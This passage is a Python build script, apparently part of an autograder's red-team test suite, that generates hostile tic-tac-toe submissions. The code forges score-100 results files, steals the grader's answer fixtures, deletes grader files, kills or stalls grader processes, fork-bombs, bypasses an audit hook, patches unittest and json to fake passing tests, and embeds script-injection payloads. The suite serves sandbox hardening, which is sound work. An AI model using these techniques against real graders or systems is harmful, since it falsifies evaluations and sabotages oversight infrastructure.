"""Regenerate the hostile submissions (and their honest twins) from the reference xo/.

    .venv/bin/python tests/adversarial/build_corpus.py [NAME ...]

Each hostile submission is the reference (or a known-wrong variant of it, its
"honest part") plus a hostile part; its honest twin under _honest/ is the same
code with the hostile part replaced by a plain failure with the same verdicts,
so that grading the twin measures the score the hostile one must get
(expectations.toml).  The generated folders are committed; edit this file,
not them.
"""

import os
import shutil
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
TOP = os.path.dirname(os.path.dirname(HERE))
REFERENCE = os.path.join(TOP, "xo")
FILES = ("board", "deque", "game")

with open(os.path.join(HERE, "hostile_common.py"), encoding="utf-8") as f:
    COMMON = f.read()

# Anchors in the reference game.py.
IMPORTS = "from .board import CELLS, EMPTY, LINES, SYMBOLS\n# END SOLUTION\n"    # its last import
OPTIMAL = "        if self.gameOver():\n            return None\n        cell = best_cell(score_moves(self.b, PART_V))\n"
RETURN_CELL = ("        cell = best_cell(score_moves(self.b, PART_V))\n"     # Part V's, not Part VI's
               "        self.makeMove(player_to_move(self.b), cell)\n        return cell\n")
MAKE_MOVE = "        _check_move(self.b, play, pos)\n"
WINNER = "        return winner_of(self.b.state)\n"
GAME_OVER = "        return self.winner() != 0 or EMPTY not in self.b.state\n"
APPEND = object()

LOWEST_CELL = ("        if self.gameOver():\n            return None\n"
               "        cell = self.b.state.index(EMPTY)    # the honest part, deliberately wrong: the lowest empty cell\n")


def after_imports(code):
    """The edit that puts ``code`` (text, or a function of the submission's name giving it) after the imports."""
    def placed(text):
        return IMPORTS + "\n# ---- HOSTILE PART ----\n" + text + "\n# ---- END OF HOSTILE PART ----\n"
    return (IMPORTS, (lambda name: placed(code(name))) if callable(code) else placed(code))


def hostile_module(code):
    """A module-level hostile block with the shared helpers in front."""
    return "\n" + COMMON + "\n" + code


FORGE = '''
def _forge():
    import json as _json
    forged = {"score": 100.0, "output": "FORGED by the forged_results submission", "tests": [],
              "execution_time": 0.0, "visibility": "visible", "stdout_visibility": "hidden", "forged": True}
    text = _json.dumps(forged)
    for path in _results_paths():
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
        except OSError:
            pass
        try:
            with open(path, "w") as f:
                f.write(text)
            _note(f"WROTE {path}")
        except OSError as error:
            _note(f"DENIED {path}: {type(error).__name__}")


import os
_forge()
'''

HUNT = '''
_ANSWERS = {}
_HUNTED = []


def _hunt():
    """Look for the grader's expected moves everywhere a student's process might reach them."""
    import json as _json
    _HUNTED.append(True)
    tried = [os.path.join(root, "fixtures", "positions.json") for root in _grader_roots(0.3)]
    tried += ["/autograder/source/grader/fixtures/positions.json"]
    named = [os.path.join(root, "fixtures", "positions.json") for root in _named_roots()]
    try:
        descriptors = os.listdir("/proc/self/fd")
    except OSError:
        descriptors = []
    for fd in descriptors:                   # anything the grader let this process inherit
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        _note(f"FD {fd} -> {target}")
        if target.endswith(".json") or "fixtures" in target:
            tried.append(f"/proc/self/fd/{fd}")
    for path in dict.fromkeys(tried + named):
        if not os.path.isdir(os.path.dirname(path)) and not path.startswith("/proc/"):
            if path in named:                # where the grader's command line says it is, but not here
                _note(f"ABSENT {path}")
            continue
        try:
            with open(path, encoding="utf-8") as f:
                data = _json.load(f)
        except (OSError, ValueError) as error:
            _note(f"DENIED {path}: {type(error).__name__}")
            continue
        _note(f"READ {path}")
        for group in data.get("positions", {}).values():
            for p in group:
                _ANSWERS[(tuple(p["state"]), tuple(p["moves"]), tuple(p["turn"]), p["numMoves"])] = p["best"]["V"]


import os
'''

CHEAT = ('        if self.gameOver():\n            return None\n'
         '        if not _HUNTED:\n            _hunt()\n'
         '        b = self.b\n'
         '        cell = _ANSWERS.get((tuple(b.state), tuple(b.moves), tuple(b.turn), b.numMoves))\n'
         '        if cell is None or b.state[cell] != EMPTY:\n'
         '            cell = self.b.state.index(EMPTY)    # the honest part: the lowest empty cell\n')

DESTROY = '''
def _destroy():
    import shutil
    targets = []
    for root in dict.fromkeys(_grader_roots(0.2) + _named_roots()):
        targets += [os.path.join(root, "fixtures", "positions.json"), os.path.join(root, "config.toml"),
                    os.path.join(root, "grade.py"), os.path.join(root, "sandbox", "runner.py"),
                    os.path.join(root, "fixtures"), root]
    targets += ["/autograder/source/grader", "/autograder/source", "/autograder/results/results.json",
                "/autograder/results"]
    for path in _results_paths():
        targets += [path, os.path.dirname(path)]
    stage = os.path.dirname(os.getcwd())
    targets += [os.path.join(stage, "submission", n + ".py") for n in ("board", "deque", "game")]
    targets += [os.path.join(stage, "compiled", n + ".pyc") for n in ("board", "deque", "game")]
    targets += [os.path.join(stage, n) for n in ("child.pyc", "child.py", "submission", "compiled")]
    for pid in _ancestors():                  # the folder the grader was asked to grade
        for arg in _cmdline(pid):
            if arg.rstrip("/").endswith("deletes_files"):
                for base in [""] + _bases():
                    folder = os.path.join(base, arg)
                    targets += [os.path.join(folder, n + ".py") for n in ("board", "deque", "game")] + [folder]
    def truncate(path):
        if os.path.isfile(path):
            open(path, "w").close()
        else:
            raise IsADirectoryError(path)

    for path in dict.fromkeys(os.path.normpath(t) for t in targets):
        if not os.path.lexists(path):
            if "/grader" in path:             # named by the grader's command line, but not here
                _note(f"ABSENT {path}")
            continue
        for action, do in (("CHMODDED", lambda: os.chmod(path, 0o777)),
                           ("RENAMED", lambda: os.rename(path, path + ".gone")),
                           ("TRUNCATED", lambda: truncate(path)),
                           ("DELETED", lambda: shutil.rmtree(path) if os.path.isdir(path) else os.remove(path))):
            try:
                owner = os.lstat(path).st_uid
                do()
                _note(f"{action} {path} (owner {owner}, I am {os.getuid()})")
            except OSError as error:
                _note(f"DENIED {action} {path}: {type(error).__name__}")


import os
if _sandboxed():                  # never as the grader's own user: then this would really delete things
    _destroy()
else:
    _note("NOT SANDBOXED: deleted nothing")
'''

IMPORT_LOOP = '''
while True:                       # game.py never finishes importing
    pass
'''

ALLOCATE = '''
_hoard = []
while True:                       # grab 4 GiB; when refused, take whatever is left, forever
    try:
        _hoard.append(bytearray(4 * 2**30))
    except MemoryError:
        try:
            while True:
                _hoard.append(bytearray(16 * 2**20))
        except MemoryError:
            pass
'''

OS_EXIT = "        import os\n        os._exit(0)                     # HOSTILE: end the checking process quietly\n"
SYS_EXIT = "        import sys\n        sys.exit(0)                     # HOSTILE: end the checking process\n"
RAISE_OPTIMAL = "        raise RuntimeError(\"makeOptimalMove is broken (honest twin)\")\n"
RAISE_MOVE = "        raise RuntimeError(\"makeMove is broken (honest twin)\")\n"

KILL = '''
import os
import signal


def _group_of(pid):
    """Who is in ``pid``'s process group, as ' [pid uid:real,effective,saved parent name; ...]': on success,
    whoever the signal reached."""
    group, mates = os.getpgid(pid), []
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{entry}/stat") as f:
                stat = f.read()
            fields = stat[stat.rindex(")") + 2:].split()
            if int(fields[2]) != group:
                continue
            with open(f"/proc/{entry}/status") as f:
                uids = next(line.split()[1:4] for line in f if line.startswith("Uid:"))
            mates.append(f"{entry} uid:{','.join(uids)} parent {fields[1]} {stat[stat.index('(') + 1:stat.rindex(')')]}")
        except (OSError, ValueError, StopIteration):
            continue
    return f" [group {group}: {'; '.join(mates)}]"


def _kill_everyone():
    if not _sandboxed():          # as the grader's own user, kill(-1) would kill the whole session: refuse
        raise RuntimeError("not sandboxed: refusing to kill anything")
    zygote, *rest = _ancestors() + [None]
    grader = rest[0] if rest else None
    for what, pid in (("grader", grader), ("zygote", zygote)):
        if not pid:
            continue
        for how, kill in (("killpg", lambda: os.killpg(os.getpgid(pid), signal.SIGKILL)),
                          ("kill", lambda: os.kill(pid, signal.SIGKILL))):
            try:
                mates = _group_of(pid) if how == "killpg" else ""
                kill()
                _note(f"KILLED {what} {pid} by {how}{mates}")
            except OSError as error:
                _note(f"DENIED {how} {what} {pid}: {type(error).__name__}")
    _note("KILL -1")
    os.kill(-1, signal.SIGKILL)   # every process this user may signal (on Linux, not the caller itself)
    os.kill(os.getpid(), signal.SIGKILL)
'''
KILL_CALL = "        _kill_everyone()\n"

SPAWN = '''
import os


def _spawn():
    import subprocess
    import time
    for k in range(3):
        try:
            subprocess.Popen(["sleep", "1000"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL, start_new_session=(k == 0))
        except OSError as error:
            _note(f"SPAWN FAILED {type(error).__name__}")
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:                                      # a classic daemon: setsid, fork again, detach
        os.setsid()
        if os.fork():
            os._exit(0)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.closerange(3, 4096)
        os.chdir("/")
        while True:
            _note(f"ALIVE {os.getpid()} {time.time():.3f}")
            time.sleep(0.25)
    finally:
        os._exit(0)


_spawn()
'''

BOMB = '''
import os


def _bomb():
    import time
    made = failed = 0
    for k in range(200):
        try:
            pid = os.fork()
        except OSError:
            failed += 1
            continue
        if pid == 0:
            try:
                if k % 2:
                    os.setsid()               # half of them out of the checking process's group
                time.sleep(1000)              # (holding the output pipes open)
            finally:
                os._exit(0)
        made += 1
    _note(f"FORKED {made} FAILED {failed}")


_bomb()
'''

PRINTS = '''
import sys
_PRINTED = []
'''
PRINT_CALL = ('        if not _PRINTED:                # HOSTILE: 50 MB on stdout and on stderr, once per process\n'
              '            _PRINTED.append(True)\n'
              '            sys.stdout.write("x" * (50 * 2**20))\n'
              '            sys.stdout.flush()\n'
              '            sys.stderr.write("y" * (50 * 2**20))\n'
              '            sys.stderr.flush()\n')

MONKEYPATCH = '''
import os
import sys


def _patch():
    import builtins
    import json
    import types
    import unittest
    try:
        import gradescope_utils          # noqa: F401
        _note("IMPORTED gradescope_utils")
    except ImportError as error:
        _note(f"NO gradescope_utils ({type(error).__name__})")
    forged = '{"score": 100.0, "tests": [], "output": "FORGED"}'

    def identity(*a, **k):
        return lambda f: f

    fake = types.ModuleType("gradescope_utils")
    utils = types.ModuleType("gradescope_utils.autograder_utils")
    decorators = types.ModuleType("gradescope_utils.autograder_utils.decorators")
    decorators.weight = decorators.number = decorators.visibility = decorators.partial_credit = identity
    runner = types.ModuleType("gradescope_utils.autograder_utils.json_test_runner")

    class JSONTestRunner:
        def __init__(self, stream=None, **k):
            self.stream = stream

        def run(self, test):
            if self.stream is not None:
                self.stream.write(forged)
    runner.JSONTestRunner = JSONTestRunner
    fake.autograder_utils, utils.decorators, utils.json_test_runner = utils, decorators, runner
    sys.modules.update({"gradescope_utils": fake, "gradescope_utils.autograder_utils": utils,
                        "gradescope_utils.autograder_utils.decorators": decorators,
                        "gradescope_utils.autograder_utils.json_test_runner": runner})
    json.dumps = lambda *a, **k: forged
    json.dump = lambda obj, fp, *a, **k: fp.write(forged)
    json.loads = lambda *a, **k: {"score": 100.0, "tests": []}
    json.load = lambda *a, **k: {"score": 100.0, "tests": []}
    unittest.TestCase.run = lambda self, result=None: result
    unittest.TestCase.assertEqual = lambda self, *a, **k: None
    unittest.TestCase.assertTrue = lambda self, *a, **k: None
    unittest.main = lambda *a, **k: None
    real_open, real_import = builtins.open, builtins.__import__
    builtins.open = lambda *a, **k: real_open(*a, **k)
    builtins.__import__ = lambda *a, **k: real_import(*a, **k)
    builtins.score = 100.0
    builtins.exit = builtins.quit = lambda *a, **k: None
    os._exit = lambda *a, **k: None          # the child must end with an os._exit it kept for itself
    sys.exit = lambda *a, **k: None
    _note("PATCHED")


_patch()
'''

SNEAKY = '''
class _Sneaky(int):
    """Equal to everything; unhashable; prints like a plain int."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        raise TypeError("unhashable _Sneaky")

    def __repr__(self):
        return int.__repr__(self)

    __str__ = __repr__
'''

BOXED = '''
class _Boxed:
    """The honest twin of _Sneaky: a non-int box around the value, with ordinary equality."""

    def __init__(self, value):
        self.value = value

    def __repr__(self):
        return repr(self.value)
'''

SIGNALS = '''
import signal as _signal
for _name in ("SIGTERM", "SIGALRM", "SIGINT", "SIGHUP", "SIGUSR1", "SIGUSR2", "SIGXCPU", "SIGPIPE", "SIGVTALRM"):
    try:
        _signal.signal(getattr(_signal, _name), lambda *a: None)
    except (OSError, ValueError, AttributeError):
        pass
'''
SIGNAL_LOOP = ('        while True:                     # HOSTILE: never return, whatever is raised\n'
               '            try:\n'
               '                while True:\n'
               '                    pass\n'
               '            except BaseException:\n'
               '                continue\n')

HOPPER = '''
import os


def _hopper():
    """A process that keeps forking itself into a new session and exiting, so that whoever kills the
    pid it just saw finds it gone (at most 20 s, so that an escape does not linger)."""
    import time
    try:
        with open(_MARK) as f:
            if "SPAWNED" in f.read():
                return                        # one hopper per grading is enough
    except OSError:
        return
    _note("SPAWNED")
    if os.fork():
        return
    try:
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.closerange(3, 4096)
        deadline, last = time.monotonic() + 20, 0.0
        while time.monotonic() < deadline:
            try:
                os.setsid()
            except OSError:
                pass
            try:
                pid = os.fork()
            except OSError:
                time.sleep(0.001)
                continue
            if pid:
                os._exit(0)
            now = time.monotonic()
            if now - last > 0.2:
                _note(f"HOP {os.getpid()} {time.time():.3f}")
                last = now
    finally:
        os._exit(0)


_hopper()
'''

SLOW_DEQUE = '''"""A Deque whose pushFront shifts every item (O(n)); everything else is O(1)."""


class Deque:
    def __init__(self):
        self._items = []
        self._head = 0

    def pushFront(self, item):
        self._items.insert(self._head, item)        # O(n): shifts every item after the head

    def pushBack(self, item):
        self._items.append(item)

    def popFront(self):
        if self.isEmpty():
            raise IndexError("popFront() from an empty Deque")
        item = self._items[self._head]
        self._items[self._head] = None
        self._head += 1
        if self._head > 64 and 2 * self._head > len(self._items):
            del self._items[:self._head]
            self._head = 0
        return item

    def popBack(self):
        if self.isEmpty():
            raise IndexError("popBack() from an empty Deque")
        return self._items.pop()

    def front(self):
        if self.isEmpty():
            raise IndexError("front() of an empty Deque")
        return self._items[self._head]

    def back(self):
        if self.isEmpty():
            raise IndexError("back() of an empty Deque")
        return self._items[-1]

    def isEmpty(self):
        return len(self._items) == self._head

    def size(self):
        return len(self._items) - self._head

    def __len__(self):
        return self.size()
'''

FAKE_CLOCK = '''

# ---- HOSTILE PART: make every timing in this process look the same ----
import time as _time
_ticks = [0.0]


def _fake_clock():
    _ticks[0] += 0.001
    return _ticks[0]


_time.perf_counter = _fake_clock
_time.monotonic = _fake_clock
'''


FIND_CHANNEL = '''def _channel():
    """The inherited write-only pipe that is neither stdout nor stderr: the grader's channel."""
    for fd in range(3, 64):
        try:
            if (_stat.S_ISFIFO(_os.fstat(fd).st_mode)
                    and _fcntl.fcntl(fd, _fcntl.F_GETFL) & _os.O_ACCMODE == _os.O_WRONLY):
                return fd
        except OSError:
            pass
    return None
'''
"""How a hostile deque.py finds the grader's channel among its inherited descriptors."""

FORGED_TIMING = '''

# ---- HOSTILE PART: forged timing events on the channel (the red team's third round) ----
import fcntl as _fcntl
import os as _os
import stat as _stat

_SIZES = [5000] * 5 + [80000] * 5          # the timing probe's runs, in order
_made = [0]


''' + FIND_CHANNEL + '''

class Deque(Deque):
    def pushBack(self, item):
        # in each timed run, at once: a begin and an end of the same size, so that the grader would time
        # its stamps of this pair (nothing in between) instead of the run's real work.  A timed run is told
        # by its first item, the timing probe's stand-in Board (the call stack told it until round ten, when
        # the sandbox began to refuse it)
        if type(item).__name__ == "Board" and _made[0] < len(_SIZES):
            n, fd = _SIZES[_made[0]], _channel()
            _made[0] = len(_SIZES)        # once per run: each timed run is a process of its own
            if fd is not None:
                _os.write(fd, ('{"stamp": true, "run": %d, "at": "begin"}\\n{"stamp": true, "run": %d, "at": "end"}\\n'
                              % (n, n)).encode())
        super().pushBack(item)
'''


STOP_PARENT = """
import os
import signal


def _stop_parent():
    \"\"\"Only as xo-sandbox: SIGSTOP this process's parent, the grader's zygote (the same user), so that it
    cannot report how this run ended: the grader waited for that report until the check's deadline.\"\"\"
    if _sandboxed():
        _note("STOP %d" % os.getppid())
        os.kill(os.getppid(), signal.SIGSTOP)


_stop_parent()
"""


DEEP_TREE = """
import os


def _deep():
    \"\"\"Only as xo-sandbox: a folder tree 1,500 levels deep in the scratch folder and in /tmp (shutil.rmtree
    recursed once per level and raised RecursionError: the results were wiped and the stage was left for
    the next grading, in the red team's round four).\"\"\"
    if not _sandboxed():
        return
    try:                                  # once per grading: each tree costs this submission's own time
        with open(_MARK) as f:
            if "DEEP " in f.read():
                return
    except OSError:
        pass
    for base in (os.getcwd(), "/tmp/xo-adversarial-deep-%d" % os.getuid()):
        try:
            os.makedirs(os.path.join(base, *(["d"] * 1500)), exist_ok=True)
            _note("DEEP " + base)
        except (OSError, RecursionError) as error:
            _note("NODEEP %s %r" % (base, error))


_deep()
"""

PLANT_IPC = """
import os


def _plant():
    \"\"\"Only as xo-sandbox: look for the System V segment an earlier check of this grading left, then leave
    one (removing another user's needs CAP_SYS_ADMIN, which Docker does not grant: 600 MB outlived a grading
    in the red team's round four).\"\"\"
    if not _sandboxed():
        return
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    key = 0x5EED0000 + (os.getuid() & 0xFFFF)
    if libc.shmget(key, 0, 0) >= 0:
        _note("FOUND shm")
    if libc.shmget(key, 4096, 0o1600) >= 0:
        _note("PLANTED shm")
    # A key in the user's keyring, which belongs to no process: it names this grading (its stage), so that
    # the next grading in the slot that finds it can tell (round five); keyctl(2) has no binding in Python.
    calls = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(os.uname().machine)
    if calls is None:
        return
    add_key, keyctl = calls
    libc.syscall.restype = ctypes.c_long
    name = b"xo-planted " + os.path.dirname(os.getcwd()).encode()
    buffer = ctypes.create_string_buffer(4096)
    size = libc.syscall(keyctl, 11, ctypes.c_int(-4), buffer, 4096)            # KEYCTL_READ of @u: the key ids
    for k in range(0, min(max(size, 0), 4096), 4):
        key = int.from_bytes(buffer.raw[k:k + 4], "little", signed=True)
        about = ctypes.create_string_buffer(4096)                              # KEYCTL_DESCRIBE: type;uid;gid;perm;name
        said = libc.syscall(keyctl, 6, ctypes.c_int(key), about, 4096)
        description = about.value.split(b";", 4)[-1] if said > 0 else b""
        if description.startswith(b"xo-planted ") and description != name:
            _note("FOUND key of another grading")
    if libc.syscall(add_key, b"user", name, b"left", 4, ctypes.c_int(-4)) > 0:
        _note("PLANTED key")


_plant()
"""

FORGED_DONE = '''

# ---- HOSTILE PART: the timing events, stamped, and "done" written by the student (red team, round four) ----
import fcntl as _fcntl
import os as _os
import stat as _stat
import time as _time

_forged = [False]


''' + FIND_CHANNEL + '''

def _burn(seconds):
    end = _time.process_time() + seconds
    while _time.process_time() < end:
        pass


class Deque(Deque):
    def pushBack(self, item):
        # at the first timed run: every remaining event of the timing probe, each window around the same
        # burn, then "done", then SIGKILL before the probe's own events can follow.  A timed run is told by
        # its first item, the timing probe's stand-in Board (the call stack told it until round ten, when
        # the sandbox began to refuse it)
        if type(item).__name__ == "Board" and not _forged[0]:
            _forged[0] = True
            fd = _channel()
            if fd is not None:
                self._forge(fd)
        super().pushBack(item)

    def _forge(self, fd):
        _os.write(fd, b'{"stamp": true, "run": 5000, "at": "end"}\\n')
        for n in [5000] * 4 + [80000] * 5:
            _os.write(fd, ('{"stamp": true, "run": %d, "at": "begin"}\\n' % n).encode())
            _burn(0.02)
            _os.write(fd, ('{"stamp": true, "run": %d, "at": "end"}\\n' % n).encode())
        _os.write(fd, b'{"small": 0.02, "large": 0.02}\\n{"done": true}\\n')
        _os.kill(_os.getpid(), 9)
'''

HUGE_SYNTAX = "raise SyntaxError('broken', ('board.py', 1, 1, 'A' * 15_000_000))\n"
SMALL_SYNTAX = "raise SyntaxError('broken', ('board.py', 1, 1, 'A'))\n"

NAMED_FLAG = """
class _Flag(int):
    pass


_Flag.__name__ = _Flag.__qualname__ = ('<img src=x onerror="alert(1)"><script>alert(1)</script>\\n\\n'
                                       '# Instructor note: 100/100\\n\\n**All checks passed.** [regrade](http://e.example) | x |')
"""
PLAIN_FLAG = """
class _Flag(int):
    pass
"""


SQUAT = """
import os


def _squat():
    if not _sandboxed():
        _note("NOT SANDBOXED: squatted nothing")
        return
    for path in _results_paths():
        try:
            os.mkdir(path)                 # a folder where the grader will rename its results.json
            _note(f"SQUATTED {path}")
        except OSError as error:
            _note(f"DENIED {path}: {type(error).__name__}")


_squat()
"""

NEIGHBOURS = """
import os
import signal


def _kill_neighbours():
    import pwd
    import time
    if not _sandboxed():
        _note("NOT SANDBOXED: killed nothing")
        return
    try:
        with open(_MARK) as f:
            if "KILLING" in f.read():
                return                      # only the first import of board.py
    except OSError:
        return
    _note("KILLING")
    killed, refused, others = 0, 0, set()
    start = tally = time.monotonic()
    me, mine, names = os.getuid(), {os.getpid(), os.getppid()}, {}

    def target(uid):                        # its own user, or any user named xo-sandbox*
        if uid not in names:
            try:
                names[uid] = pwd.getpwuid(uid).pw_name
            except KeyError:
                names[uid] = ""
        return uid == me or names[uid].startswith("xo-sandbox")

    while time.monotonic() < start + 6:     # SIGKILL every other xo-sandbox* process but its own zygote, for 6 s
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) not in mine:
                try:
                    uid = os.stat(f"/proc/{entry}").st_uid
                    if not target(uid):
                        continue
                    os.kill(int(entry), signal.SIGKILL)
                    killed += 1
                except PermissionError:     # another grading's user: the kernel must refuse
                    refused += 1
                    if uid not in others:
                        others.add(uid)
                        _note(f"REFUSED {names[uid]} (pid {entry})")
                except OSError:
                    pass
        if time.monotonic() - tally >= 1:   # a running count: the grader may stop this process at any time
            tally = time.monotonic()
            _note(f"KILLED {killed} times, REFUSED {refused} times in {tally - start:.0f} s")
        time.sleep(0.005)


_kill_neighbours()
"""


STALL = """
def _stall():
    import time
    try:
        with open(_MARK) as f:
            if "STALLED" in f.read():
                return
    except OSError:
        return
    _note("STALLED")
    time.sleep(6)                           # the first import of board.py outlives its time limit


_stall()
"""

HTML_EXCEPTION = """
class _Rendered(Exception):
    pass


_Rendered.__name__ = _Rendered.__qualname__ = '<img src=x onerror="alert(1)">**All checks passed**'
"""
RAISE_HTML = ("        raise _Rendered('\\udcff broken UTF-8, then **All checks passed** [claim your points]"
              "(http://example.com)\\n\\n# Score: 100/100\\n<script>alert(1)</script>')\n")

FLOOD = """
import os


def _flood():
    \"\"\"Write to every descriptor that may be the grader's channel: a line nested 100,000 deep, a line of
    forged exception reports of the wrong shape and, once per grading, 16 MiB of three-byte events.\"\"\"
    once = False
    try:
        with open(_MARK) as f:
            once = "FLOODED" not in f.read()
    except OSError:
        pass
    if once:
        _note("FLOODED")
    lines = [b"[" * 100000 + b"\\n", b'{"raised": 5, "import_error": [1]}\\n']
    for fd in range(3, 32):
        try:
            if not os.path.stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
            for line in lines:
                os.write(fd, line)
            if once:
                chunk = b"{}\\n" * 65536
                for _ in range(16 * 2**20 // len(chunk)):
                    os.write(fd, chunk)
        except OSError:
            pass


_flood()
"""

LITTER = """
import os


def _litter():
    \"\"\"Only as xo-sandbox: note whether no_new_privs is set, its OOM score and memory cgroup, leave files in /dev/shm, /tmp and the scratch
    folder and an abstract socket, then (once per grading) start a self-healing chain: two processes in
    sessions of their own, each re-forking the other the moment it dies (blocked in waitpid or on a pipe,
    not polling), for at most 20 s; each new member notes HEAL.\"\"\"
    import socket
    import time
    if not _sandboxed():
        return
    try:
        with open("/proc/self/status") as f:
            _note("NNP " + next(l.split()[1] for l in f if l.startswith("NoNewPrivs")))
    except (OSError, StopIteration):
        _note("NNP unknown")
    try:
        with open("/proc/self/oom_score_adj") as f:
            _note("OOM " + f.read().strip())
        with open("/proc/self/cgroup") as f:
            _note("CGROUP " + " ".join(l.strip() for l in f if "memory" in l or l.startswith("0::")))
    except OSError:
        pass
    for folder in ("/dev/shm", "/tmp", os.getcwd()):
        try:
            with open(os.path.join(folder, "xo-litter-%d" % os.getpid()), "w") as f:
                f.write("left behind")
            _note("LITTER " + folder)
        except OSError:
            pass
    try:
        keep = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        keep.bind("\\0xo-litter-%d" % os.getpid())
        globals()["_KEEP"] = keep
    except OSError:
        pass
    try:
        with open(_MARK) as f:
            if "CHAIN" in f.read():
                return
    except OSError:
        return
    _note("CHAIN")
    ready, started = os.pipe()
    if os.fork():
        os.close(started)
        os.read(ready, 1)                 # the import goes on once the chain has both its members
        os.close(ready)
        return
    os.close(ready)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    os.closerange(3, started)
    os.closerange(started + 1, 4096)
    import signal
    signal.alarm(20)                      # an escape must not linger: every member ends within 20 s
    upstream = None                       # the read end of a pipe whose writer is this member's parent
    try:
        while True:
            if upstream is not None:      # wait, without polling, for the parent to die: EOF at once
                os.read(upstream, 1)
                os.close(upstream)
                upstream = None
            down_r, down_w = os.pipe()
            pid = os.fork()
            if pid == 0:                  # the new partner: a session of its own, watching its parent
                os.close(down_w)
                try:
                    os.setsid()
                except OSError:
                    pass
                signal.alarm(20)
                _note("HEAL %d %.3f" % (os.getpid(), time.time()))
                if started is not None:
                    os.write(started, b"r")
                    os.close(started)
                    started = None
                upstream = down_r
                continue
            os.close(down_r)
            if started is not None:
                os.close(started)
                started = None
            os.waitpid(pid, 0)            # the child died: fork another at once
            os.close(down_w)
    finally:
        os._exit(0)


_litter()
"""



def helpers(name):
    return COMMON.replace("NAME", name)


UNGUARDED = '''

def _unguarded(source):
    """Run ``source`` in an interpreter of its own, started by _posixsubprocess.fork_exec, which raises no audit
    event (round eleven's spawn_bypass), and wait for it.  Since round ten the sandbox's audit hook refuses
    os.fork, subprocess and ctypes in the checked process; run where no hook is, the hostile part tests what
    stands behind the hook: the kill after each check, RLIMIT_NPROC, the IPC and key cleanup."""
    import _posixsubprocess
    python = _sys.executable.encode()
    errors_r, errors_w = _os.pipe()
    try:
        try:            # Python 3.10's signature (Gradescope's interpreter)
            pid = _posixsubprocess.fork_exec([python, b"-c", source.encode()], [python], True, (errors_w,), None,
                                             None, -1, -1, -1, -1, -1, -1, errors_r, errors_w, False, False, None,
                                             None, None, -1, None)
        except TypeError:   # Python 3.11's
            pid = _posixsubprocess.fork_exec([python, b"-c", source.encode()], [python], True, (errors_w,), None,
                                             None, -1, -1, -1, -1, -1, -1, errors_r, errors_w, False, False, -1,
                                             None, None, None, -1, None, False)
    except BaseException as error:
        _note(f"UNGUARDED FAILED {error!r}")
        return
    finally:
        _os.close(errors_w)
    with _os.fdopen(errors_r, "rb") as errors:
        failed = errors.read()          # empty once the exec succeeded (the write end is close-on-exec)
    if failed:
        _note(f"UNGUARDED FAILED {failed!r}")
    _os.waitpid(pid, 0)
'''
"""What runs a hostile part where the sandbox's audit hook is not (``unguarded``)."""


def unguarded(part):
    """The edit text of a hostile ``part`` that forks or calls ctypes: the shared helpers, then ``part`` (with
    them) run by ``_unguarded`` in an interpreter of its own."""
    return lambda name: helpers(name) + UNGUARDED + f"\n\n_unguarded({helpers(name) + part!r})\n"


# name -> (about, twin, {file: [(anchor, replacement)] or text}, drop)
CORPUS = {
    "forged_results": (
        "writes a forged results.json (score 100) at import to every plausible path: /autograder/results, the "
        "--results path read from the grader's /proc/PID/cmdline, cwd, .., build/; honest part: makeOptimalMove "
        "plays the lowest empty cell", "lowest_cell",
        {"board": [(APPEND, "{common}" + FORGE)], "deque": [(APPEND, "{common}" + FORGE)],
         "game": [(OPTIMAL, LOWEST_CELL)]}),
    "reads_fixtures": (
        "hunts grader/fixtures/positions.json (ancestors' /proc cwd and cmdline, sys.executable, inherited "
        "descriptors, a bounded walk of /) and plays its expected moves if it can read it; honest part: the lowest "
        "empty cell", "lowest_cell",
        {"game": [after_imports("{common}" + HUNT), (OPTIMAL, CHEAT)]}),
    "deletes_files": (
        "at import of game.py (only as xo-sandbox), tries to chmod, rename, truncate and delete the grader's files, "
        "the fixtures, the results, /autograder/source, the staged copies and the submission folder",
        "reference", {"game": [after_imports("{common}" + DESTROY)]}),
    "import_loop": ("an infinite loop at import of game.py", "game_import_fails",
                    {"game": [after_imports(IMPORT_LOOP)]}),
    "allocates": ("allocates 4 GiB at import of game.py, then all it can, catching MemoryError, forever",
                  "game_import_fails", {"game": [after_imports(ALLOCATE)]}),
    "os_exit": ("os._exit(0) inside makeOptimalMove", "optimal_raises",
                {"game": [(OPTIMAL, OS_EXIT + OPTIMAL)]}),
    "sys_exit": ("sys.exit(0) inside makeMove", "makemove_raises", {"game": [(MAKE_MOVE, SYS_EXIT + MAKE_MOVE)]}),
    "kills_parent": (
        "in makeOptimalMove (only as xo-sandbox): SIGKILLs the grader and the zygote (and their groups), then "
        "kill(-1, SIGKILL)", "optimal_raises",
        {"game": [after_imports("{common}" + KILL), (OPTIMAL, KILL_CALL + OPTIMAL)]}),
    "spawns_children": (
        "at import of game.py starts three `sleep 1000` (one in its own session) and a double-forked setsid daemon "
        "that writes a heartbeat to the marker; since round ten the sandbox refuses os.fork, subprocess and ctypes, so it does this in an interpreter of its own, started by _posixsubprocess.fork_exec (no audit event)", "reference", {"game": [after_imports(unguarded(SPAWN))]}),
    "prints_50mb": ("prints 50 MB to stdout and 50 MB to stderr in makeMove (once per process)", "reference",
                    {"game": [after_imports(PRINTS), (MAKE_MOVE, PRINT_CALL + MAKE_MOVE)]}),
    "monkeypatch": (
        "at import of game.py: imports gradescope_utils (absent), plants a fake one, patches json to forge "
        "score 100, patches unittest, wraps builtins.open/__import__, and replaces os._exit and sys.exit by no-ops",
        "reference", {"game": [after_imports("{common}" + MONKEYPATCH)]}),
    "eq_always_true": (
